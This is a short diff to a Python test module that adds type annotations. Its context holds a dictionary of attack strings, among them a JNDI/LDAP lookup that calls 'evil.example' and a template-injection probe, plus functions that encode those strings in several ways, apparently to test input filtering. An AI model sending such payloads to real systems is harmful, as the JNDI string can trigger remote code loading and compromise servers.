@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import base64
 import json
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from urllib.parse import quote
 
 import pytest
@@ -22,7 +22,7 @@ ATTACKS = {
     "lookup": "${jndi:ldap://evil.example/a}",
     "template": "{{7*7}}",
 }
-WRITTEN = {
+WRITTEN: dict[str, Callable[[str], str]] = {
     "as it is": lambda text: text,
     "percent twice": lambda text: quote(quote(text, safe=""), safe=""),
     "entities": lambda text: "".join(c if c.isalnum() else f"&#x{ord(c):x};" for c in text),
